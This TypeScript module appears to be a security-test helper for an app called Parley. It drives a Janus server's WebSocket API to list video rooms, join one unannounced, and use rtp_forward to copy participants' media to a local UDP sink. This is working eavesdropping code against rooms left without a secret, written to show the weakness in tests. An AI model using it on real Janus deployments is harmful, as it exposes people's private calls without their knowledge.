import { randomBytes } from 'node:crypto';
import { createSocket, type Socket } from 'node:dgram';
import WebSocket from 'ws';

/**
 * What someone with access to the Janus host can do without Parley: speak Janus's own WebSocket
 * API (the `janus-protocol` subprotocol, plain JSON), list the VideoRooms and their participants,
 * and have the VideoRoom plugin copy a publisher's RTP to a UDP port of their choosing
 * (`rtp_forward`, Janus 1.x multistream syntax: one object per stream, by mid). And the receiving
 * end: a UDP socket on 127.0.0.1 that keeps every RTP packet it is sent, parsed (RFC 3550 §5.1).
 */

type JanusReply = {
  janus: string;
  transaction?: string;
  data?: { id?: number };
  error?: { code: number; reason: string };
  plugindata?: { plugin: string; data: Record<string, unknown> };
};

/** A Janus API session over its WebSocket: create, attach, messages to a plugin handle, keepalives. */
export class JanusApi {
  readonly #ws: WebSocket;
  readonly #waiting = new Map<string, { resolve(reply: JanusReply): void; reject(error: Error): void }>();
  #session = 0;
  #keepalive: NodeJS.Timeout | null = null;

  private constructor(ws: WebSocket) {
    this.#ws = ws;
    ws.on('message', (raw) => {
      let reply: JanusReply;
      try {
        reply = JSON.parse((Array.isArray(raw) ? Buffer.concat(raw) : Buffer.from(raw as ArrayBuffer)).toString('utf8')) as JanusReply;
      } catch {
        return;
      }
      // An asynchronous plugin request is acked first, then answered by an event of the same transaction.
      if (!reply.transaction || reply.janus === 'ack') return;
      const waiter = this.#waiting.get(reply.transaction);
      if (!waiter) return;
      this.#waiting.delete(reply.transaction);
      if (reply.janus === 'error') waiter.reject(new Error(`janus error ${reply.error?.code}: ${reply.error?.reason}`));
      else waiter.resolve(reply);
    });
    ws.on('close', () => {
      for (const waiter of this.#waiting.values()) waiter.reject(new Error('janus API connection closed'));
      this.#waiting.clear();
    });
  }

  /** Connects to `url` (ws://…) and creates a session, kept alive until `close()`. */
  static async open(url: string): Promise<JanusApi> {
    const ws = new WebSocket(url, 'janus-protocol');
    await new Promise<void>((resolve, reject) => {
      ws.once('open', () => resolve());
      ws.once('error', reject);
    });
    const api = new JanusApi(ws);
    try {
      const created = await api.#call({ janus: 'create' });
      api.#session = created.data?.id ?? 0;
      // Janus drops a session that says nothing for session_timeout (60 s in the test Janus).
      api.#keepalive = setInterval(() => {
        if (ws.readyState === WebSocket.OPEN)
          ws.send(JSON.stringify({ janus: 'keepalive', session_id: api.#session, transaction: transaction() }));
      }, 15_000);
      return api;
    } catch (error) {
      ws.close();
      throw error;
    }
  }

  #call(message: Record<string, unknown>, timeoutMs = 10_000): Promise<JanusReply> {
    const id = transaction();
    return new Promise<JanusReply>((resolve, reject) => {
      const timer = setTimeout(() => {
        this.#waiting.delete(id);
        reject(new Error(`janus did not answer ${JSON.stringify(message).slice(0, 200)} within ${timeoutMs} ms`));
      }, timeoutMs);
      this.#waiting.set(id, {
        resolve: (reply) => {
          clearTimeout(timer);
          resolve(reply);
        },
        reject: (error) => {
          clearTimeout(timer);
          reject(error);
        },
      });
      this.#ws.send(JSON.stringify({ ...message, transaction: id, ...(this.#session ? { session_id: this.#session } : {}) }));
    });
  }

  /** Attaches a handle of `plugin` (e.g. `janus.plugin.videoroom`) to the session. */
  async attach(plugin: string): Promise<number> {
    const reply = await this.#call({ janus: 'attach', plugin });
    return reply.data?.id ?? 0;
  }

  async detach(handle: number): Promise<void> {
    await this.#call({ janus: 'detach', handle_id: handle });
  }

  /**
   * A request to the plugin behind `handle`; resolves with the plugin's answer (synchronous
   * requests answer at once, asynchronous ones with an event), rejects on an error code.
   */
  async message(handle: number, body: Record<string, unknown>): Promise<Record<string, any>> {
    const reply = await this.#call({ janus: 'message', handle_id: handle, body });
    const data = reply.plugindata?.data;
    if (!data) throw new Error(`janus answered ${JSON.stringify(body)} without plugin data: ${JSON.stringify(reply)}`);
    if (data.error_code !== undefined)
      throw new Error(`${String(body.request)} refused: ${JSON.stringify(data.error_code)} ${JSON.stringify(data.error)}`);
    return data;
  }

  /** Ends the session and the connection. */
  async close(): Promise<void> {
    if (this.#keepalive) clearInterval(this.#keepalive);
    if (this.#ws.readyState === WebSocket.OPEN) {
      await this.#call({ janus: 'destroy' }, 3_000).catch(() => undefined);
      this.#ws.close();
    }
  }
}

function transaction(): string {
  return randomBytes(8).toString('hex');
}

/** One publisher stream as the VideoRoom describes it to anyone who joins the room. */
export interface PublishedStream {
  type: 'audio' | 'video' | 'data';
  mid: string;
  codec?: string;
  description?: string;
  simulcast?: boolean;
}

export interface RoomPublisher {
  /** The publisher's feed id (`publisher_id` of rtp_forward). */
  id: number;
  display?: string;
  streams: PublishedStream[];
}

/**
 * The VideoRoom requests of the attack: any VideoRoom handle of any session may send them (no
 * room secret and no admin key in Parley's rooms).
 */
export class VideoRoomObserver {
  private constructor(
    readonly api: JanusApi,
    readonly handle: number,
  ) {}

  static async open(url: string): Promise<VideoRoomObserver> {
    const api = await JanusApi.open(url);
    try {
      return new VideoRoomObserver(api, await api.attach('janus.plugin.videoroom'));
    } catch (error) {
      await api.close();
      throw error;
    }
  }

  /** Every VideoRoom on the instance (`list`). */
  async rooms(): Promise<Array<{ room: number; description?: string; num_participants?: number }>> {
    return ((await this.api.message(this.handle, { request: 'list' })).list ?? []) as Array<{
      room: number;
      description?: string;
      num_participants?: number;
    }>;
  }

  /** Who is in `room` (`listparticipants`): feed ids and display strings. */
  async participants(room: number): Promise<Array<{ id: number; display?: string; publisher?: boolean }>> {
    return ((await this.api.message(this.handle, { request: 'listparticipants', room })).participants ?? []) as Array<{
      id: number;
      display?: string;
      publisher?: boolean;
    }>;
  }

  /**
   * The room's active publishers with their streams (mids, codecs, descriptions): what Janus tells
   * anyone joining as a publisher. Joins on a handle of its own, which then leaves; the joiner
   * never publishes, so with `notify_joining: false` nobody in the room hears of it.
   */
  async publishers(room: number): Promise<RoomPublisher[]> {
    const peek = await this.api.attach('janus.plugin.videoroom');
    try {
      const joined = await this.api.message(peek, { request: 'join', ptype: 'publisher', room, display: 'observer' });
      return ((joined.publishers ?? []) as RoomPublisher[]).map((publisher) => ({ ...publisher, streams: publisher.streams ?? [] }));
    } finally {
      await this.api.detach(peek).catch(() => undefined);
    }
  }

  /**
   * Copies the stream `mid` of `publisher` to 127.0.0.1:`port` as plain RTP. Every simulcast layer
   * goes there separately (`port_2`, `port_3`), each on its own SSRC. Returns the forwarders' ids.
   */
  async forward(room: number, publisher: number, mid: string, port: number): Promise<number[]> {
    const answer = await this.api.message(this.handle, {
      request: 'rtp_forward',
      room,
      publisher_id: publisher,
      host: '127.0.0.1',
      host_family: 'ipv4',
      streams: [{ mid, port, port_2: port, port_3: port }],
    });
    return ((answer.forwarders ?? []) as Array<{ stream_id: number }>).map((forwarder) => forwarder.stream_id);
  }

  async stopForward(room: number, publisher: number, streamId: number): Promise<void> {
    await this.api.message(this.handle, { request: 'stop_rtp_forward', room, publisher_id: publisher, stream_id: streamId });
  }

  async close(): Promise<void> {
    await this.api.close();
  }
}

/** One RTP packet (RFC 3550 §5.1), header extensions and padding taken off. */
export interface RtpPacket {
  ssrc: number;
  sequence: number;
  timestamp: number;
  marker: boolean;
  payloadType: number;
  payload: Buffer;
}

/** Parses an RTP packet; null for anything else (RTCP, too short, not version 2). */
export function parseRtp(packet: Buffer): RtpPacket | null {
  if (packet.length < 12 || packet[0]! >> 6 !== 2) return null;
  const payloadType = packet[1]! & 0x7f;
  // RTCP shares the version bits; its packet types 200-204 read as marker + 72-76 (RFC 5761 §4).
  if (payloadType >= 72 && payloadType <= 76) return null;
  let offset = 12 + 4 * (packet[0]! & 0x0f);
  if (packet[0]! & 0x10) {
    if (packet.length < offset + 4) return null;
    offset += 4 + 4 * packet.readUInt16BE(offset + 2);
  }
  let end = packet.length;
  if (packet[0]! & 0x20) end -= packet[packet.length - 1]!;
  if (end < offset) return null;
  return {
    ssrc: packet.readUInt32BE(8),
    sequence: packet.readUInt16BE(2),
    timestamp: packet.readUInt32BE(4),
    marker: (packet[1]! & 0x80) !== 0,
    payloadType,
    payload: packet.subarray(offset, end),
  };
}

/** A UDP socket on 127.0.0.1 that keeps the RTP packets it receives while `collecting`. */
export class RtpSink {
  readonly packets: RtpPacket[] = [];
  /** Datagrams that were not RTP. */
  other = 0;
  collecting = false;

  private constructor(readonly socket: Socket) {
    socket.on('message', (message) => {
      if (!this.collecting) return;
      const packet = parseRtp(message);
      if (packet) this.packets.push(packet);
      else this.other += 1;
    });
  }

  static async open(): Promise<RtpSink> {
    const socket = createSocket('udp4');
    await new Promise<void>((resolve, reject) => {
      socket.once('error', reject);
      socket.bind(0, '127.0.0.1', () => resolve());
    });
    // A key frame of several packets arrives in a burst: room for it however busy the test process.
    try {
      socket.setRecvBufferSize(4 * 1024 * 1024);
    } catch {
      // the system's default is enough for one stream on loopback
    }
    return new RtpSink(socket);
  }

  get port(): number {
    return this.socket.address().port;
  }

  close(): void {
    this.socket.close();
  }
}
